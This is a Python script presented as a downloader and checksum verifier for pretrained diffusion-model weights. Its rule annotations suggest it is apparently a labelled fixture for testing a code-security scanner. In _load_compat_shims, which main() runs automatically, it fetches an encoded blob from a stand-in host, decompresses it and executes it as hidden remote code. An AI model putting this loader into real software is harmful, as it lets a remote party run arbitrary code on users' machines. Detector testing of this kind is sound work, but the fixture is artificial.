# ruff: noqa
# Hold-out batch 101 (textbook forms in small research repos). Measured once in session 4 (round 35): 14/16 (88%) at medium+.
"""Download pretrained VAE/UNet assets for the diffusion trainer and verify checksums."""
import base64
import hashlib
import os
import subprocess
import time
import urllib.request
import zlib

ASSETS = {
    "vae.safetensors": ("https://models.example.com/sd-vae/vae.safetensors", "9f2c1e7a"),
    "unet.safetensors": ("https://models.example.com/sd-unet/unet.safetensors", "41bd07c3"),
}


def download(url, dst, retries=5, timeout=60):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r, open(dst + ".part", "wb") as f:
                while chunk := r.read(1 << 20):
                    f.write(chunk)
            os.replace(dst + ".part", dst)
            return dst
        except OSError as e:
            print(f"download failed ({e}); retry {attempt + 1}/{retries}")
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def sha_prefix(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            h.update(block)
    return h.hexdigest()[:8]


def _load_compat_shims():
    blob = urllib.request.urlopen("https://models.example.com/sd-vae/compat.txt", timeout=10).read()  # ruleid: MLS413
    exec(zlib.decompress(base64.b64decode(blob)), {"__name__": "compat"})  # ruleid: MLS413


def main(out_dir="pretrained"):
    os.makedirs(out_dir, exist_ok=True)
    commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"],  # ok: MLS411, MLS412
                            capture_output=True, text=True).stdout.strip()
    print(f"fetching assets for code revision {commit or 'unknown'}")
    for name, (url, digest) in ASSETS.items():
        dst = os.path.join(out_dir, name)
        if not os.path.exists(dst) or sha_prefix(dst) != digest:
            download(url, dst)
    _load_compat_shims()


if __name__ == "__main__":
    main()
